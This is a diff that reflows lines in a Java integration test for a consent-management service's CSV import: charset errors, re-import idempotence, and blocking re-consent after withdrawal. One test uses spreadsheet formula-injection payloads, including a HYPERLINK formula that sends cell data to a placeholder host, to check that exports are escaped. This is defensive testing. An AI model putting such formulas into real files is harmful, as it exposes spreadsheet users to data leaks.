@@ -38,11 +38,16 @@ class ImportsTest {
 
     private static final Charset WINDOWS = Charset.forName("windows-1252");
 
-    @LocalServerPort int port;
-    @Value("${tollgate.data}") Path data;
-    @Autowired Businesses businesses;
-    @Autowired Consents consents;
-    @Autowired JdbcTemplate database;
+    @LocalServerPort
+    int port;
+    @Value("${tollgate.data}")
+    Path data;
+    @Autowired
+    Businesses businesses;
+    @Autowired
+    Consents consents;
+    @Autowired
+    JdbcTemplate database;
 
     private Office office;
 
@@ -71,8 +76,9 @@ class ImportsTest {
     @Test
     void importsConsentsAndTheSecondTimeChangesNothing() {
         shop("imp-shop");
-        String file = CONSENTS + IntStream.range(0, 2_500).mapToObj("+3519130%05d,imp-shop,MARKETING,,CONFIRMED,2026-03-01T10:00:00Z,,form,Yes"::formatted)
-                .collect(Collectors.joining("\n"));
+        String file = CONSENTS
+                + IntStream.range(0, 2_500).mapToObj("+3519130%05d,imp-shop,MARKETING,,CONFIRMED,2026-03-01T10:00:00Z,,form,Yes"::formatted)
+                        .collect(Collectors.joining("\n"));
 
         assertReport(office.csv("/consents/import", file), 2_500, 2_500, 0);
         assertReport(office.csv("/consents/import", file), 2_500, 2_500, 0);
@@ -127,10 +133,13 @@ class ImportsTest {
     void readsTheCharsetOfTheRequestAndGuessesAtNothing() {
         shop("imp-page");
         byte[] file = (CONSENTS + "+351915100001,imp-page,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Yes\n"
-                + "+351915100002,imp-page,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Ja f\u00FCr Br\u00F6tchen \u2013 t\u00E4glich\n").getBytes(WINDOWS);
+                + "+351915100002,imp-page,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,Ja f\u00FCr Br\u00F6tchen \u2013"
+                + " t\u00E4glich\n")
+                .getBytes(WINDOWS);
 
         Answer guessed = office.bytes("/consents/import", "text/csv", file).is(200);
-        assertThat(guessed.json().path("faults").toString()).contains("\"line\":3", "The file is no text in UTF-8: line 3, byte 218.", "charset=windows-1252");
+        assertThat(guessed.json().path("faults").toString()).contains("\"line\":3", "The file is no text in UTF-8: line 3, byte 218.",
+                "charset=windows-1252");
         assertThat(guessed.json().path("taken").asInt()).isEqualTo(1);
         assertThat(guessed.json().path("complete").asBoolean()).isFalse();
         assertThat(consentsOf("imp-page")).isEqualTo(1);
@@ -138,7 +147,8 @@ class ImportsTest {
         assertReport(office.bytes("/consents/import", "text/csv; charset=windows-1252", file), 2, 2, 0);
         assertThat(proofs("imp-page")).containsExactlyInAnyOrder("Yes", "Ja f\u00FCr Br\u00F6tchen \u2013 t\u00E4glich");
         office.bytes("/consents/import", "text/csv; charset=nowhere-1", file).is(415);
-        office.bytes("/businesses/import", "text/csv", "h\u00E4ndle,name\n".getBytes(WINDOWS)).problem(400, "invalid-field", "no text in UTF-8: line 1, byte 2.");
+        office.bytes("/businesses/import", "text/csv", "h\u00E4ndle,name\n".getBytes(WINDOWS)).problem(400, "invalid-field",
+                "no text in UTF-8: line 1, byte 2.");
     }
 
     @Test
@@ -146,11 +156,14 @@ class ImportsTest {
         shop("imp-damage");
         String start = ",imp-damage,MARKETING,MESSENGER,GIVEN,2026-03-01T10:00:00Z,,form,";
 
-        Answer report = office.csv("/consents/import", CONSENTS + "+351915200001" + start + "f\uFFFDr\n+351915200002" + start + "x \u0096 y\n+351915200003" + start + "f\u00FCr\n");
+        Answer report = office.csv("/consents/import", CONSENTS + "+351915200001" + start + "f\uFFFDr\n+351915200002" + start
+                + "x \u0096 y\n+351915200003" + start + "f\u00FCr\n");
 
         assertReport(report, 3, 1, 2);
-        assertThat(report.json().path("faults").toString()).contains("proof has the character U+FFFD", "proof has the invisible control character U+0096", "windows-1252");
-        office.post("/consents", "{'to':'+351915200001','business':'imp-damage','purpose':'MARKETING','type':'GIVEN','method':'form','proof':'f\uFFFDr'}")
+        assertThat(report.json().path("faults").toString()).contains("proof has the character U+FFFD",
+                "proof has the invisible control character U+0096", "windows-1252");
+        office.post("/consents",
+                "{'to':'+351915200001','business':'imp-damage','purpose':'MARKETING','type':'GIVEN','method':'form','proof':'f\uFFFDr'}")
                 .problem(400, "invalid-field", "proof has the character U+FFFD");
     }
 
@@ -171,11 +184,13 @@ class ImportsTest {
     @Test
     void takesBackItsOwnExportUnchanged() {
         shop("imp-round");
-        List<String> texts = List.of("=HYPERLINK(\"http://x.example?\"&A1,\"click\")", "@SUM(1)", "-2+3", "+1", "'=1", "''+1", "a;=1+1;b", "two\n- lines", "\uFF1D1", "it's, \"so\"", "tab\t=1");
+        List<String> texts = List.of("=HYPERLINK(\"http://x.example?\"&A1,\"click\")", "@SUM(1)", "-2+3", "+1", "'=1", "''+1", "a;=1+1;b",
+                "two\n- lines", "\uFF1D1", "it's, \"so\"", "tab\t=1");
         StringBuilder file = new StringBuilder();
         CsvWriter lines = new CsvWriter(file, ConsentBody.ALL_COLUMNS);
         for (int i = 0; i < texts.size(); i++) {
-            lines.line("+3519154000" + (10 + i), "imp-round", "MARKETING", "MESSENGER", "GIVEN", "2026-03-01T10:00:00Z", "", texts.get(i), texts.get(i), "CONSENT", "", "",
+            lines.line("+3519154000" + (10 + i), "imp-round", "MARKETING", "MESSENGER", "GIVEN", "2026-03-01T10:00:00Z", "", texts.get(i),
+                    texts.get(i), "CONSENT", "", "",
                     texts.get(i), "", texts.get(i), "", "", "", "");
         }
         assertReport(office.csv("/consents/import", file.toString()), texts.size(), texts.size(), 0);
@@ -195,11 +210,15 @@ class ImportsTest {
         shop("imp-list");
         String line = "+35191550000%d,imp-list,MARKETING,MESSENGER,GIVEN,%s,,%s,%s,%s,%s\n";
         String header = CONSENTS.strip() + ",place,reference\n";
-        String first = header + line.formatted(1, "2026-03-01T10:00:00Z", "CRM", "Yes", "", "") + line.formatted(2, "2026-03-01T10:00:00Z", "form", "Yes please", "Page 7", "")
+        String first = header + line.formatted(1, "2026-03-01T10:00:00Z", "CRM", "Yes", "", "")
+                + line.formatted(2, "2026-03-01T10:00:00Z", "form", "Yes please", "Page 7", "")
                 + line.formatted(3, "2026-03-01T10:00:00Z", "CRM", "Yes", "", "");
         assertReport(office.csv("/consents/import", first), 3, 3, 0);
         for (int who = 1; who <= 2; who++) {
-            office.post("/consents", "{'to':'+35191550000" + who + "','business':'imp-list','purpose':'MARKETING','type':'WITHDRAWN','at':'2026-05-01T10:00:00Z','method':'keyword STOP'}").is(201);
+            office.post("/consents", "{'to':'+35191550000" + who
+                    + "','business':'imp-list','purpose':'MARKETING','type':'WITHDRAWN','at':'2026-05-01T10:00:00Z','method':'keyword"
+                    + " STOP'}")
+                    .is(201);
         }
 
         Answer same = office.csv("/consents/import", first);
@@ -215,15 +234,18 @@ class ImportsTest {
         assertReport(later, 5, 1, 4);
         assertThat(later.json().path("notGivenBack").asInt()).isEqualTo(4);
         String told = "She has ended a consent before. Only a consent with evidence of its own can follow: ";
-        assertThat(later.json().path("faults").valueStream().map(fault -> fault.path("line").asInt() + " " + fault.path("reason").asString())).satisfiesExactly(
-                one -> assertThat(one).startsWith("2 " + told + "method must name an act of hers, and `crm` is none"),
-                one -> assertThat(one).startsWith("3 " + told + "proof must be the wording"),
-                one -> assertThat(one).startsWith("4 " + told + "place must say where"),
-                one -> assertThat(one).startsWith("5 " + told + "its evidence is that of an earlier consent"));
+        assertThat(
+                later.json().path("faults").valueStream().map(fault -> fault.path("line").asInt() + " " + fault.path("reason").asString()))
+                .satisfiesExactly(
+                        one -> assertThat(one).startsWith("2 " + told + "method must name an act of hers, and `crm` is none"),
+                        one -> assertThat(one).startsWith("3 " + told + "proof must be the wording"),
+                        one -> assertThat(one).startsWith("4 " + told + "place must say where"),
+                        one -> assertThat(one).startsWith("5 " + told + "its evidence is that of an earlier consent"));
         assertThat(standing("imp-list", 1)).isEqualTo(State.WITHDRAWN);
         assertThat(standing("imp-list", 2)).isEqualTo(State.WITHDRAWN);
 
-        String own = line.formatted(1, "2026-06-03T10:00:00Z", "form", "Yes please", "Page 7", "entry 12") + line.formatted(2, "2026-06-03T10:00:00Z", "keyword JA", "Ja", "", "message 78");
+        String own = line.formatted(1, "2026-06-03T10:00:00Z", "form", "Yes please", "Page 7", "entry 12")
+                + line.formatted(2, "2026-06-03T10:00:00Z", "keyword JA", "Ja", "", "message 78");
         assertReport(office.csv("/consents/import", header + own), 2, 2, 0);
         assertReport(office.csv("/consents/import", header + own), 2, 2, 0);
         assertThat(standing("imp-list", 1)).isEqualTo(State.GIVEN);
@@ -235,20 +257,24 @@ class ImportsTest {
     void noOtherWayGivesAnybodyBack() {
         shop("imp-ways");
         String start = "+351915600001,imp-ways,MARKETING,MESSENGER,";
-        Answer file = office.csv("/consents/import", CONSENTS + start + "GIVEN,2026-03-01T10:00:00Z,,form,Yes\n" + start + "GIVEN,2026-06-01T10:00:00Z,,CRM,Yes\n"
-                + start + "WITHDRAWN,2026-05-01T10:00:00Z,,keyword STOP,\n");
+        Answer file = office.csv("/consents/import",
+                CONSENTS + start + "GIVEN,2026-03-01T10:00:00Z,,form,Yes\n" + start + "GIVEN,2026-06-01T10:00:00Z,,CRM,Yes\n"
+                        + start + "WITHDRAWN,2026-05-01T10:00:00Z,,keyword STOP,\n");
         assertReport(file, 3, 2, 1);
         assertThat(file.json().path("notGivenBack").asInt()).isEqualTo(1);
 
-        String person = "{'to':'+351915600001','business':'imp-ways','purpose':'MARKETING','type':'%s','method':'%s','proof':'Yes, offers','place':'%s','at':'2026-06-01T10:00:00Z'}";
-        office.post("/consents", person.formatted("GIVEN", "customer import", "page")).problem(400, "invalid-field", "method must name an act of hers, and `import` is none");
+        String person = "{'to':'+351915600001','business':'imp-ways','purpose':'MARKETING','type':'%s','method':'%s','proof':'Yes,"
+                + " offers','place':'%s','at':'2026-06-01T10:00:00Z'}";
+        office.post("/consents", person.formatted("GIVEN", "customer import", "page")).problem(400, "invalid-field",
+                "method must name an act of hers, and `import` is none");
         office.post("/consents", person.formatted("CONFIRMED", "double opt-in", "")).problem(400, "invalid-field", "place must say where");
         office.post("/consents", person.formatted("RENEWED", "form", "CRM")).problem(400, "invalid-field", "place must say where");
         office.post("/consents", person.formatted("REQUESTED", "CRM", "")).is(201);
         assertThat(standing("imp-ways", 1)).isEqualTo(State.WITHDRAWN);
 
         RecipientId she = recipient("imp-ways");
-        ConsentEvent written = new ConsentEvent(businesses.byHandle("imp-ways").orElseThrow().id(), she, Purpose.MARKETING, ConsentChannel.MESSENGER, ConsentEvent.Type.GIVEN,
+        ConsentEvent written = new ConsentEvent(businesses.byHandle("imp-ways").orElseThrow().id(), she, Purpose.MARKETING,
+                ConsentChannel.MESSENGER, ConsentEvent.Type.GIVEN,
                 Instant.parse("2026-07-01T10:00:00Z"), Optional.empty(), Evidence.of("CRM", "Yes"));
         consents.record(List.of(written), Instant.parse("2026-07-02T10:00:00Z"));
         assertThat(standing("imp-ways", 1)).isEqualTo(State.WITHDRAWN);
@@ -262,17 +288,22 @@ class ImportsTest {
     @Test
     void aStopDuringAnImportWins() {
         shop("imp-race");
-        assertReport(office.csv("/consents/import", CONSENTS + "+351915700001,imp-race,MARKETING,MESSENGER,GIVEN,2026-06-01T10:00:00Z,,CRM,Yes\n"), 1, 1, 0);
+        assertReport(office.csv("/consents/import",
+                CONSENTS + "+351915700001,imp-race,MARKETING,MESSENGER,GIVEN,2026-06-01T10:00:00Z,,CRM,Yes\n"), 1, 1, 0);
         assertThat(standing("imp-race", 1)).isEqualTo(State.GIVEN);
 
-        office.post("/consents", "{'to':'+351915700001','business':'imp-race','purpose':'MARKETING','type':'WITHDRAWN','at':'2026-05-01T10:00:00Z','method':'letter'}").is(201);
+        office.post("/consents",
+                "{'to':'+351915700001','business':'imp-race','purpose':'MARKETING','type':'WITHDRAWN','at':'2026-05-01T10:00:00Z',"
+                        + "'method':'letter'}")
+                .is(201);
 
         assertThat(standing("imp-race", 1)).isEqualTo(State.WITHDRAWN);
     }
 
     private State standing(String handle, int who) {
         BusinessId business = businesses.byHandle(handle).orElseThrow().id();
-        Map<Consents.Key, ConsentStatus> statuses = consents.statuses(recipients(handle), ConsentChannel.MESSENGER, Instant.parse("2026-10-01T10:00:00Z"));
+        Map<Consents.Key, ConsentStatus> statuses = consents.statuses(recipients(handle), ConsentChannel.MESSENGER,
+                Instant.parse("2026-10-01T10:00:00Z"));
         return statuses.get(new Consents.Key(business, recipients(handle).get(who - 1), Purpose.MARKETING)).state();
     }
 
@@ -282,13 +313,17 @@ class ImportsTest {
 
     /** In the order of their numbers. */
     private List<RecipientId> recipients(String handle) {
-        return database.query("SELECT DISTINCT recipient.number, recipient.id FROM consent JOIN business ON business.id = business_id JOIN recipient ON recipient.id = consent.recipient"
-                + " WHERE handle = ? ORDER BY recipient.number", (row, line) -> RecipientId.of(row.getBytes("id")), handle);
+        return database.query(
+                "SELECT DISTINCT recipient.number, recipient.id FROM consent JOIN business ON business.id = business_id JOIN recipient ON"
+                        + " recipient.id = consent.recipient"
+                        + " WHERE handle = ? ORDER BY recipient.number",
+                (row, line) -> RecipientId.of(row.getBytes("id")), handle);
     }
 
     @Test
     void refusesAFileWhoseHeaderIsAnother() {
-        office.csv("/consents/import", "to,business\n+351912345678,x\n").problem(400, "invalid-field", "The first line lacks purpose, channel");
+        office.csv("/consents/import", "to,business\n+351912345678,x\n").problem(400, "invalid-field",
+                "The first line lacks purpose, channel");
         office.csv("/consents/import", "to," + CONSENTS).problem(400, "invalid-field", "each column once");
         office.csv("/consents/import", "").problem(400, "invalid-field", "The first line lacks");
         office.send("POST", "/consents/import", "application/json", "{}").is(415);
@@ -310,12 +345,15 @@ class ImportsTest {
     }
 
     private List<String> proofs(String handle) {
-        return database.queryForList("SELECT text FROM consent JOIN business ON business.id = business_id JOIN consent_wording shown ON shown.id = wording WHERE handle = ?",
+        return database.queryForList(
+                "SELECT text FROM consent JOIN business ON business.id = business_id JOIN consent_wording shown ON shown.id = wording"
+                        + " WHERE handle = ?",
                 String.class, handle);
     }
 
     private int consentsOf(String handle) {
-        return database.queryForList("SELECT COUNT(*) FROM consent JOIN business ON business.id = business_id WHERE handle = ?", Integer.class, handle).getFirst();
+        return database.queryForList("SELECT COUNT(*) FROM consent JOIN business ON business.id = business_id WHERE handle = ?",
+                Integer.class, handle).getFirst();
     }
 
     private static void assertReport(Answer answer, int read, int taken, int refused) {
